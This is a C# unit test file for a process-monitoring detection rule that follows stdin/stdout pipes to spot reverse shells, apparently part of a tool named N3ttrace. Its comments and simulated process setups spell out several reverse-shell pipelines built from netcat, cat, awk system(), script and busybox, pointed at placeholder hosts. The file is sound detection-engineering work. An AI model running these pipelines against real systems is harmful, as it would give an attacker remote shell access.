using N3ttrace.Connections;
using N3ttrace.Inference;
using N3ttrace.Inference.Rules;
using N3ttrace.Lineage;

namespace N3ttrace.Core.Tests.Inference;

/// <summary>
/// [judgement] stdio-wiring follows the data through relaying processes of any kind (fd kinds and inodes only), and a
/// multi-call binary is judged by the program it runs.
/// </summary>
public class StdioWiringWalkTests
{
    private static readonly ProcessNode Launcher = Make.Node(Make.Ctx("/usr/bin/dotnet", ["dotnet"]));
    private static readonly RuleLists Lists = new(RulesConfig.Default);
    private static ulong s_ino = 9000;

    private static StdioFd Pipe() => new(StdioKind.Pipe, Interlocked.Increment(ref s_ino), 14);
    private static StdioFd Fifo() => new(StdioKind.Fifo, Interlocked.Increment(ref s_ino), 8);
    private static readonly StdioFd Tty = new(StdioKind.Tty, 3, StdioFd.KernelDev(136, 3));
    private static readonly StdioFd Null = new(StdioKind.Null, 4, StdioFd.KernelDev(1, 3));

    private static ProcessNode Node(string exe, string[] argv, StdioFd i, StdioFd o, StdioFd e, ProcessNode? parent = null) =>
        Make.Node(Make.Ctx(exe, argv) with { Stdio = new StdioFacts(i, o, e) }, parent ?? Launcher);

    private static RuleHit? Judge(ProcessNode holder, params ProcessNode[] others)
    {
        var peers = new StdioPeers();
        foreach (var n in others.Prepend(holder))
        {
            peers.Add(n, n.Context.Stdio);
        }
        var c = Make.Conn(holder);
        return new StdioWiringRule().Evaluate(new Subject(c, Lists, c.BirthBootNs + 1) { Peers = peers });
    }

    [Fact]
    public void A_shell_behind_two_pipe_hops_each_way_is_wired()
    {
        // nc h p < q | cat | sh -i 2>&1 | cat > q
        var (q, p1, p2, p3) = (Fifo(), Pipe(), Pipe(), Pipe());
        var nc = Node("/usr/bin/nc.openbsd", ["nc", "h", "1"], q, p1, Tty);
        var cat1 = Node("/usr/bin/cat", ["cat"], p1, p2, Tty);
        var sh = Node("/usr/bin/dash", ["sh", "-i"], p2, p3, p3);
        var cat2 = Node("/usr/bin/cat", ["cat"], p3, q, Tty);
        var hit = Judge(nc, cat1, sh, cat2);
        Assert.NotNull(hit);
        Assert.Contains("relaying", hit.Text, StringComparison.Ordinal);
        Assert.Equal("T1059.004", hit.Technique);
    }

    [Fact]
    public void The_walk_stops_after_three_processes_and_needs_opposite_ends()
    {
        // nc | cat | cat | cat | sh -i: the shell is four processes away.
        var (q, p1, p2, p3, p4) = (Fifo(), Pipe(), Pipe(), Pipe(), Pipe());
        var nc = Node("/usr/bin/nc.openbsd", ["nc", "h", "1"], q, p1, Tty);
        var relays = new[] { Node("/usr/bin/cat", ["cat"], p1, p2, Tty), Node("/usr/bin/cat", ["cat"], p2, p3, Tty), Node("/usr/bin/cat", ["cat"], p3, p4, Tty) };
        var sh = Node("/usr/bin/dash", ["sh", "-i"], p4, Tty, Tty);
        Assert.Null(Judge(nc, [.. relays, sh]));

        // curl | gzip -d | tar x: data flows down a pipeline that ends in no interpreter.
        var (a, b) = (Pipe(), Pipe());
        var curl = Node("/usr/bin/curl", ["curl", "u"], Null, a, Tty);
        Assert.Null(Judge(curl, Node("/usr/bin/gzip", ["gzip", "-d"], a, b, Tty), Node("/usr/bin/tar", ["tar", "x"], b, Tty, Tty)));

        // A shell that shares the holder's output pipe (both write it) is not fed by it.
        var o = Pipe();
        var nc2 = Node("/usr/bin/nc.openbsd", ["nc", "h", "1"], Null, o, Tty);
        Assert.Null(Judge(nc2, Node("/usr/bin/dash", ["sh", "-i"], Tty, o, o)));
    }

    [Fact]
    public void An_interpreter_on_both_ends_is_judged_from_the_end_that_feeds_it()
    {
        // nc h p < q | awk '{system($0)}' > q: met first on q (its stdout), it is fed by nc's stdout and runs shells.
        var (q, p) = (Fifo(), Pipe());
        var nc = Node("/usr/bin/nc.openbsd", ["nc", "h", "1"], q, p, Tty);
        var awk = Node("/usr/bin/mawk", ["mawk", "-W", "interactive", "{system($0)}"], p, q, q);
        var sh = Node("/usr/bin/dash", ["sh", "-c", "id"], p, q, q, awk);
        awk.AddExecChild(sh);
        Assert.NotNull(Judge(nc, awk));
        Assert.Null(Judge(nc, Node("/usr/bin/mawk", ["mawk", "{print}"], p, q, q)));
    }

    [Fact]
    public void A_relay_that_spawns_a_shell_on_a_pty_it_made_is_wired()
    {
        // nc h p < q | script -qfc /bin/sh /dev/null > q: script is no interpreter, it owns the pty the shell is on.
        var (q, p1, pts) = (Fifo(), Pipe(), new StdioFd(StdioKind.Tty, 5, StdioFd.KernelDev(136, 5)));
        var nc = Node("/usr/bin/nc.openbsd", ["nc", "h", "1"], q, p1, Tty);
        var py = Node("/usr/bin/script", ["script", "-qfc", "/bin/sh", "/dev/null"], p1, q, q);
        var sh = Node("/usr/bin/dash", ["/bin/sh"], pts, pts, pts, py);
        py.AddExecChild(sh);
        var hit = Judge(nc, py, sh);
        Assert.NotNull(hit);
        Assert.Contains("relaying for nc.openbsd", hit.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_multi_call_binary_is_judged_by_the_program_it_runs()
    {
        // busybox nc h p < q | busybox sh -i > q
        var (q, p) = (Fifo(), Pipe());
        var nc = Node("/usr/bin/busybox", ["/usr/bin/busybox", "nc", "h", "1"], q, p, Tty);
        var sh = Node("/usr/bin/busybox", ["/usr/bin/busybox", "sh", "-i"], p, q, q);
        Assert.NotNull(Judge(nc, sh));
        Assert.False(CommandInterpreter.IsShell(nc.Context, Lists));
        Assert.True(CommandInterpreter.IsShell(sh.Context, Lists));
        Assert.True(CommandInterpreter.IsShell(Make.Ctx("/usr/bin/busybox", ["ash", "-i"]), Lists));
        Assert.True(CommandInterpreter.Is(Make.Ctx("/usr/bin/busybox", ["busybox", "awk", "{system($0)}"]), Lists));
        Assert.True(CommandInterpreter.ReadsCommandsFromStdin(sh.Context, Lists));
        Assert.False(CommandInterpreter.ReadsCommandsFromStdin(Make.Ctx("/usr/bin/busybox", ["busybox", "sh", "/opt/run.sh"]), Lists));
        Assert.Equal("", MultiCallApplet.Of(Make.Ctx("/usr/bin/busybox", ["busybox"]), Lists));
        Assert.Null(MultiCallApplet.Of(Make.Ctx("/usr/bin/dash", ["sh"]), Lists));

        // busybox cat on the pipe is no interpreter.
        var (q2, p2) = (Fifo(), Pipe());
        var nc2 = Node("/usr/bin/busybox", ["busybox", "nc", "h", "1"], q2, p2, Tty);
        Assert.Null(Judge(nc2, Node("/usr/bin/busybox", ["busybox", "cat"], p2, Tty, Tty)));
    }
}
